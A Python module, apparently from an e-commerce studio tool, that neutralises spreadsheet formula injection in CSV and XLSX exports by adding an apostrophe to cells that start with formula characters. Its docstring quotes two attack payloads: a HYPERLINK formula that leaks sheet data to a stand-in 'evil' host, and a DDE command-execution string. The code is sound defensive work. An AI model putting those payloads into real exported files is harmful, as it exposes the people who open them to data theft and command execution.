"""Cells the studio writes into a CSV or XLSX file never run as spreadsheet formulas.

Product titles, ad names and other seller or platform text end up in files the seller opens in
Excel, Numbers or Google Sheets. A cell that starts with ``=``, ``+``, ``-`` or ``@`` (also
after a tab or carriage return, which spreadsheets skip) is taken as a formula there:
``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet, ``+cmd|' /C calc'!A0`` asks to run
a program (DDE). Every writer passes its cells through :func:`safe_cell`, which prefixes such
text with an apostrophe, the spreadsheet's own "this is text" mark (OWASP's advice for CSV
injection); openpyxl, too, stores a value not starting with ``=`` as plain text.

Numbers stay numbers: an int, a Decimal, or text that is only a (signed) plain number such as
``-12.50`` or ``1,234`` (or the exports' blank mark ``-``) cannot run anything and is left as
it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# a signed plain number, or the exports' blank mark "-": neither can run anything
_HARMLESS = re.compile(r"[-+]?\d[\d,]*(\.\d+)?%?|-+")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a spreadsheet cell: text that a spreadsheet would read as
    a formula gets a leading apostrophe; everything else is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _HARMLESS.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer.writerow`` or ``openpyxl``'s ``sheet.append``."""
    return [safe_cell(v) for v in values]
